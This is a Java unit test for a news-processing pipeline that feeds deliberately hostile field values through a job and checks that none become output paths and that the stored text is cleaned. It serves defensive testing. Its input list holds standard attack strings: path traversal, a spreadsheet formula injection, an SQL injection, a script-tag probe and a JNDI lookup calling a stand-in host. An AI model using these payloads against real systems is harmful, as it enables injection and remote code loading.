package org.newsmill.pipeline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.newsmill.write.Manifest;
import org.newsmill.write.Table;
import org.newsmill.write.TableReader;

/**
 * Well-formed documents whose fields hold what breaks programs: the job goes through, each becomes
 * an article, and nothing of it becomes a path.
 */
class HostileArticlesTest {
  /** Escapes, since half a surrogate pair has no bytes in UTF-8. */
  private static final JsonMapper JSON =
      JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

  private static final String LONG = "가".repeat(300);

  private static final List<String> NAMES =
      List.of(
          "../../../escaped",
          "..",
          "/escaped",
          "dt=2024-12-05",
          "daily_total/dt=1999-01-01/part-hostile-00000.avro",
          "%2F..%2Fescaped",
          "C:\\escaped",
          "batch=other",
          ".staging",
          "_SUCCESS",
          "a\u0000b",
          "\uD800",
          "\u202Enoapac\u202C",
          "\u200B\u200D\uFEFF",
          Normalizer.normalize("누리골경제", Normalizer.Form.NFD),
          "=cmd|'/c calc'!A1",
          "'; DROP TABLE article; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://gaon.example/a}",
          LONG);

  private static final List<String> DATES =
      List.of(
          "9999-12-31T23:59:59Z",
          "0000-00-00T00:00:00Z",
          "0000-01-01",
          "+999999999-12-31T23:59:59Z",
          "-0001-01-01",
          "1970-01-01T00:00:00Z",
          "2024-02-30",
          "253402300800000",
          "9223372036854775807",
          "2024-12-04T25:61:61+99:99",
          "../2024-12-04",
          LONG);

  @TempDir private static Path directory;
  private static Path output;
  private static Manifest manifest;
  private static int documents;

  @BeforeAll
  static void run() throws IOException {
    List<String> lines = new ArrayList<>();
    for (String name : NAMES) {
      lines.add(document(lines.size(), name, "2024-12-04T09:00:00+09:00"));
    }
    for (String date : DATES) {
      lines.add(document(lines.size(), "가온일보", date));
    }
    documents = lines.size();
    Files.createDirectories(directory.resolve("in"));
    Files.write(directory.resolve("in/hostile.jsonl"), lines);
    Path job = directory.resolve("job.yaml");
    Files.writeString(
        job, "name: hostile\nas_of: 2024-12-05\ninput:\n  - path: in\noutput: outer/out\n");
    output = directory.resolve("outer/out");
    manifest = JobRunner.run(job, output, JobRunner.direct(), Map.of());
  }

  private static String document(int number, String hostile, String date)
      throws JsonProcessingException {
    Map<String, Object> fields = new LinkedHashMap<>();
    fields.put("id", hostile);
    fields.put("url", "https://gaon.example/" + number + "?p=" + hostile);
    fields.put("publisher", hostile);
    fields.put("title", hostile + " 새들시가 도서관을 연다 " + number);
    fields.put("published_at", date);
    fields.put("authors", List.of(hostile));
    fields.put(
        "body",
        "새들시는 도서관 " + number + "곳을 연다고 밝혔다. " + hostile + " \"책을 " + number + "권 마련했다\"고 시장은 말했다.");
    return JSON.writeValueAsString(fields);
  }

  @Test
  void everyDocumentIsAnArticle() {
    assertEquals(documents, manifest.ledger().get("documents_read"));
    assertEquals(
        documents,
        manifest.ledger().get("articles_annotated")
            + manifest.ledger().get("articles_excluded")
            + manifest.ledger().get("stories_excluded")
            + manifest.ledger().get("documents_rejected"),
        () -> manifest.ledger().toString());
    assertTrue(manifest.ledger().get("articles_annotated") >= documents - 2);
    assertTrue(
        manifest.rejects().stream().noneMatch(reject -> reject.reason().equals("stage_failed")),
        () -> manifest.rejects().toString());
  }

  @Test
  void nothingOfTheDataIsAPath() throws IOException {
    TreeSet<String> tables = new TreeSet<>();
    try (Stream<Path> all = Files.walk(directory)) {
      for (Path file : all.filter(Files::isRegularFile).sorted().toList()) {
        String path = directory.relativize(file).toString();
        if (path.startsWith("outer/out/") && path.endsWith(".avro")) {
          String[] parts = path.split("/", -1);
          assertEquals(5, parts.length, path);
          tables.add(parts[2]);
          assertTrue(
              parts[3].matches("dt=2024-12-0[45]|dt=1970-01-01|batch=hostile-2024-12-05"), path);
          assertEquals("part-hostile-2024-12-05-00000.avro", parts[4]);
        } else {
          assertTrue(
              path.matches(
                  "in/hostile\\.jsonl|job\\.yaml|outer/out/(manifest\\.json|_SUCCESS"
                      + "|\\.manifests/hostile-2024-12-05\\.json)"),
              path);
        }
      }
    }
    tables.removeAll(Table.ofMining().stream().map(Table::id).toList());
    assertEquals(new TreeSet<>(), tables);
  }

  @Test
  void textsAreClean_andDaysAreThoseOfTheCalendar() throws IOException {
    TreeSet<String> days = new TreeSet<>();
    TableReader.of(output.toString(), Table.ARTICLE)
        .forEachWhile(
            (partition, row) -> {
              days.add(partition);
              for (String field : List.of("title", "body", "publisher")) {
                String text = row.get(field) == null ? "" : row.get(field).toString();
                assertTrue(Normalizer.isNormalized(text, Normalizer.Form.NFC), text);
                assertFalse(text.matches("(?s).*[\u0000\u200B\u202E\uFEFF\uD800].*"), text);
              }
              return true;
            });
    assertTrue(
        days.stream().allMatch(day -> day.matches("dt=(2024-12-0[45]|1970-01-01)")),
        days.toString());
  }
}
